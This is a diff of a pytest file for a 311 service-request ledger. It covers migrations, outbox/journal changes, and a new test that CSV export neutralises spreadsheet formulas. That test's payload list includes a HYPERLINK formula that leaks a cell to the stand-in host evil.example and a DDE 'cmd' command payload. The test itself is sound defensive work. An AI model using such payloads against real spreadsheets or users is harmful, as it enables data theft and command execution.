@@ -98,8 +98,9 @@ def test_close_ends_the_connection(tmp_path: Path) -> None:
     ledger.close()  # closing twice is harmless
 
 
-def test_shares_a_file_with_the_outbox(tmp_path: Path) -> None:
-    """The ledger and the Outbox live in one file without touching each other's tables."""
+def test_the_outbox_is_a_view_of_the_one_journal(tmp_path: Path) -> None:
+    """An Outbox entry is a journal row (with its local_id); the Outbox lists only its own
+    entries, the Ledger every submission."""
     path = tmp_path / "shared.sqlite"
     with Outbox(path) as outbox:
         local_id = outbox.add(pothole(1), now=T0)
@@ -107,7 +108,13 @@ def test_shares_a_file_with_the_outbox(tmp_path: Path) -> None:
         ledger.record_submission(key="k", request=pothole(2), endpoint=ENDPOINT, sent_at=T0)
     with Outbox(path) as outbox, Ledger(path) as ledger:
         assert [e.local_id for e in outbox.entries()] == [local_id]
-        assert [s.key for s in ledger.submissions()] == ["k"]
+        assert [(s.key, s.local_id) for s in ledger.submissions()] == [
+            (None, local_id),
+            ("k", None),
+        ]
+        found = ledger.find_by_local_id(local_id)
+        assert found is not None
+        assert found.request == pothole(1)
 
 
 # --- submissions ------------------------------------------------------------------------------
@@ -134,8 +141,8 @@ def test_submission_round_trips_with_its_receipt(ledger: Ledger) -> None:
 
 
 def test_state_follows_from_what_is_recorded(ledger: Ledger) -> None:
-    """A receipt means sent (queued for an outbox receipt), an error alone failed, neither
-    means pending and in flight; state= overrides."""
+    """A receipt means sent, an error alone failed, neither means pending and in flight;
+    state= overrides (queued: it never reached the city)."""
     sent = ledger.record_submission(
         key=None, request=pothole(1), endpoint=ENDPOINT, sent_at=T0, receipt=Receipt(token="t")
     )
@@ -144,7 +151,7 @@ def test_state_follows_from_what_is_recorded(ledger: Ledger) -> None:
         request=pothole(2),
         endpoint=ENDPOINT,
         sent_at=T0,
-        receipt=Receipt(queued=True, local_id="abc"),
+        state="queued",
     )
     failed = ledger.record_submission(
         key=None, request=pothole(3), endpoint=ENDPOINT, sent_at=T0, error="HTTP 400: bad code"
@@ -170,8 +177,7 @@ def test_state_follows_from_what_is_recorded(ledger: Ledger) -> None:
     assert [s.id for s in ledger.submissions("failed")] == [failed]
     queued_sub = ledger.submission(queued)
     assert queued_sub is not None
-    assert queued_sub.receipt is not None
-    assert queued_sub.receipt.local_id == "abc"
+    assert queued_sub.receipt is None
 
 
 def test_receipt_and_token_resolution_are_recorded(ledger: Ledger) -> None:
@@ -509,7 +515,7 @@ def test_a_v1_file_is_migrated_forward_keeping_its_data(tmp_path: Path) -> None:
         assert raw.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
     finally:
         raw.close()
-    assert versions == [1, 2]
+    assert versions == [1, 2, 3]
 
 
 def test_a_newer_file_is_refused_untouched(tmp_path: Path) -> None:
@@ -541,7 +547,7 @@ def test_a_failing_migration_rolls_back(tmp_path: Path, monkeypatch: pytest.Monk
         raise RuntimeError("disk on fire")
 
     monkeypatch.setattr(
-        "civic311.ledger.MIGRATIONS", (*MIGRATIONS, Migration(3, "broken step", broken))
+        "civic311.ledger.MIGRATIONS", (*MIGRATIONS, Migration(99, "broken step", broken))
     )
     with pytest.raises(RuntimeError, match="disk on fire"):
         Ledger(path)
@@ -664,6 +670,7 @@ def write_rows(path: str, worker: int, barrier: Any) -> None:
             ledger.record_status(seen(rid, "open"), observed_at=T0 + timedelta(seconds=n))
 
 
+@pytest.mark.slow
 def test_several_processes_write_one_file_safely(tmp_path: Path) -> None:
     """4 processes x 50 submissions (and 50 status changes) into one file: every row is there
     exactly once and the file passes integrity_check."""
@@ -717,3 +724,52 @@ def test_threads_can_share_one_ledger(ledger: Ledger) -> None:
         thread.join(timeout=60)
     assert not any(t.is_alive() for t in threads)
     assert len(ledger.tracked_ids()) == 100
+
+
+# --- formula injection (issue 12.7) ----------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tindented",
+    "\rreturn",
+]
+
+
+def test_csv_export_neutralises_formulas_from_input_and_from_the_city(ledger: Ledger) -> None:
+    """Every exported cell starting with =, +, -, @, tab or CR gets a leading ' (OWASP), from
+    the report's own fields and from the city's; numbers and JSON Lines stay as they are."""
+    for n, formula in enumerate(FORMULAS):
+        rid = f"f{n}"
+        ledger.record_submission(
+            key=None,
+            request=NewRequest(
+                service_code="001",
+                lat=37.7,
+                long=-122.4,
+                address_string=formula,
+                description=formula,
+            ),
+            endpoint=ENDPOINT,
+            sent_at=T0,
+            receipt=Receipt(service_request_id=rid, service_notice=formula),
+        )
+        ledger.record_status(seen(rid, formula, notes=formula), observed_at=T0)
+    buffer = io.StringIO()
+    assert ledger.export_csv(buffer) == len(FORMULAS)
+    rows = list(csv.DictReader(io.StringIO(buffer.getvalue())))
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        for column in ("service_notice", "status", "status_notes"):  # the city's words
+            assert row[column] == "'" + formula, column
+        for column, cell in row.items():
+            if column not in ("lat", "long"):
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+        assert row["long"] == "-122.4"  # a negative number is data, not a formula
+    assert rows[0]["description"] == "'" + FORMULAS[0]  # the report's own fields too
+    jsonl = io.StringIO()
+    ledger.export_jsonl(jsonl)
+    first = json.loads(jsonl.getvalue().splitlines()[0])
+    assert first["description"] == FORMULAS[0]  # JSON is not a spreadsheet: kept verbatim
